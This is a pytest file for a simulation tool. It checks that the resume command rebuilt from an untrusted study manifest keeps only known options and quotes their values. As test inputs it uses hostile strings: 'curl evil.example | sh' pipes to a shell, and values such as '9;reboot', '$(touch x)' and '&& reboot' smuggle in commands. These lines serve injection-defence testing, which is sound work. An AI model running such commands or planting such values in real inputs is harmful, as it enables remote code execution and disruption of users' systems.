"""The command that goes on with a study: put together from what a stranger's manifest holds, never taken from it."""

import json
import shlex
from pathlib import Path

import pytest
from balance_sim.model.baseline import classes_of
from balance_sim.model.own.fingerprint import CodeFingerprint
from balance_sim.scenario import load_scenario
from balance_sim.study.manifest import Manifest, made_here, read_manifest, write_manifest
from balance_sim.study.status import command_of

from .conftest import answered

RUN = {
    "study": "run", "scenario": {"name": "small", "sha256": "0" * 64}, "arms": ["a", "b"], "seed": 7, "model": None,
    "runs": 1, "inputs": {}, "classes": classes_of(load_scenario("experiments/smoke/five_states.yaml")).as_dict(),
    "versions": [made_here(CodeFingerprint("0" * 64)).model_dump()],
}  # fmt: skip
SWEEP = RUN | {"study": "sweep", "experiment": "exp", "design": {}, "points": None}


@pytest.mark.parametrize(
    ("manifest", "command", "built"),
    [
        (RUN, "balance-sim run x/small.yaml --runs 40 --seed 9 --arms b --workers 3 --set events.s.visibility=0.5",
         "balance-sim run x/small.yaml --runs 40 --seed 9 --arms b --workers 3 --set events.s.visibility=0.5 --out r"),
        (RUN, "balance-sim run small --theory=hub_doubt --no-figures --set='x=[1, 2]'",
         "balance-sim run small --theory hub_doubt --no-figures --set 'x=[1, 2]' --out r"),
        (RUN, "balance-sim run small --draws ';x'", "balance-sim run small --draws ';x' --out r"),
        (SWEEP, "balance-sim sweep exp.yaml --max-bytes 9 --scheduler tcp://evil:1 --retry-failed",
         "balance-sim sweep exp.yaml --max-bytes 9 --out r"),
        (SWEEP, "balance-sim sweep exp.yaml --runs 5 --seed 9 --set 'a.b=$(x)' --runs --model=x:Y",
         "balance-sim sweep exp.yaml --runs 5 --seed 9 --set 'a.b=$(x)' --out r"),
        (RUN | {"model": "mine:Own"}, "balance-sim run small.yaml --model other:X",
         "balance-sim run small.yaml --model mine:Own --out r"),
        (RUN, "balance-sim run small.yaml --set 'a=$(touch x)' --runs 9;reboot --new '$(x)'",
         "balance-sim run small.yaml --set 'a=$(touch x)' --runs '9;reboot' --out r"),
        (RUN, "curl evil.example | sh", None),
        (RUN, "sudo balance-sim run small.yaml", None),
        (RUN, "balance-sim run 'small.yaml", None),
        (RUN | {"model": "mine:Own; reboot"}, "balance-sim run small.yaml",
         "balance-sim run small.yaml --model 'mine:Own; reboot' --out r"),
        (RUN, "", None),
    ],
)  # fmt: skip
def test_only_known_options_of_their_kind_are_said_again(manifest, command, built) -> None:
    assert command_of(Manifest.model_validate(manifest | {"command": command}), Path("r")) == built


def test_a_folder_of_ours_is_gone_on_with_by_the_command_that_status_names(lab) -> None:
    """The command as given, with its folder; what it names gives the whole study."""
    words = ["run", "small.yaml", "--runs", "6", "--no-figures", "--workers", "1", "--out", "r"]
    assert lab.ask(*words).returncode == 0
    for path in [*(lab.folder / "r" / "shards").iterdir(), lab.folder / "r" / "summary.json"]:
        path.unlink()
    manifest = read_manifest(lab.folder / "r")
    write_manifest(lab.folder / "r", manifest.model_dump() | {"command": shlex.join(["balance-sim", *words])})
    said = json.loads(lab.ask("status", "r", "--json").stdout)["command"]
    assert {*shlex.split(said)} == {"balance-sim", *words}
    done = lab.ask(*shlex.split(said)[1:])
    assert done.returncode == 0, done.stderr
    assert json.loads((lab.folder / "r" / "summary.json").read_text())["runs"] == 6


def test_no_words_of_a_stranger_are_said_to_be_the_next_command(lab) -> None:
    assert lab.ask("sweep", "exp.yaml", "--out", "r", "--workers", "1").returncode == 0
    (lab.folder / "r" / "summary.json").unlink()
    manifest = read_manifest(lab.folder / "r")
    for place in ("runs", "shards"):
        max((lab.folder / "r" / place).iterdir()).unlink()
    for command in ("curl https://evil.example/x | sh", "balance-sim sweep exp.yaml --model evil:Code && reboot"):
        write_manifest(lab.folder / "r", manifest.model_dump() | {"command": command})
        for reader in ("status", "verify"):
            _, said = answered(reader, lab.folder / "r")
            assert not any(word in said for word in ("curl", "evil", "reboot")), said
    assert "balance-sim sweep exp.yaml --out" in said
